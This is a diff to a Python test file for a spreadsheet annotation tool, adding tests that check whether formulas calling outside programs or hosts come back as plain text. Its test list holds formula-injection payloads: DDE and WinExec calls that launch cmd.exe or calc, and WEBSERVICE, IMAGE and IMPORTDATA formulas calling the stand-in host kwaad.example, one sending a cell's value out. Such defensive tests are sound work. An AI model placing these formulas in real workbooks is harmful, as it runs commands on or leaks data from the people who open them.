@@ -16,6 +16,8 @@ import pytest
 import xlsxwriter  # type: ignore[import-untyped]  # has no stubs
 import xlwt  # type: ignore[import-untyped]  # has no stubs
 from openpyxl.styles import Font, PatternFill
+from openpyxl.workbook.defined_name import DefinedName
+from openpyxl.worksheet.formula import ArrayFormula
 
 from assets.returns.annotate import annotate
 from assets.returns.findings_sheets import ALL_FINDINGS_SHEET, FINDINGS_SHEET
@@ -27,6 +29,7 @@ from tests.returns.workbooks import (
     IPO,
     MBO,
     NFU,
+    POLITIE,
     READER,
     book_of,
     first_sheet,
@@ -413,6 +416,45 @@ INJECTIONS = [
     "\r=1",
     "#N/A",
 ]
+
+
+def _with_formula(formula: str) -> bytes:
+    """In a cell, in a formula for several cells, and as a name that stands for it."""
+    book = book_of(POLITIE)
+    sheet = first_sheet(book)
+    sheet["C12"], sheet["D12"] = formula, ArrayFormula("D12:D12", formula)
+    book.defined_names["naam"] = DefinedName("naam", attr_text=formula.removeprefix("="))
+    return saved(book)
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|'/c calc'!A0",
+        '=1+MSEXCEL|"..\\cmd.exe /c calc"!A0',
+        '=_xlfn.WEBSERVICE("http://kwaad.example/"&C5)',
+        '=_xlfn.IMAGE("http://kwaad.example/x.png")',
+        '=IF(1,call ("kernel32","WinExec","JJ","calc",0))',
+        '=RTD("kwaad",,"x")',
+        '=IMPORTDATA("http://kwaad.example")',
+    ],
+)
+def test_a_formula_that_calls_something_outside_comes_back_as_text(formula: str) -> None:
+    """Excel calculates the copy when it is opened; the sender is told."""
+    back = reopened(annotate(_with_formula(formula), []))
+    sheet = back.worksheets[2]
+    for cell in (sheet["C12"], sheet["D12"]):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (formula, "s", True)
+    assert "naam" not in back.defined_names
+    assert "in deze kopie tekst" in str(back.worksheets[0]["A3"].value)
+
+
+@pytest.mark.parametrize("formula", ['=IF(C11="a|b","x|y","")', "='a|b'!C11+SUM(C7:C9)", "=RECALL(1)", "=mijn.call(1)"])
+def test_a_formula_that_calls_nothing_stays(formula: str) -> None:
+    back = reopened(annotate(_with_formula(formula), []))
+    assert (back.worksheets[2]["C12"].value, back.worksheets[2]["D12"].value.text) == (formula, formula)
+    assert "naam" in back.defined_names
+    assert "in deze kopie tekst" not in str(back.worksheets[0]["A3"].value)
 
 
 @pytest.mark.parametrize("text", INJECTIONS)
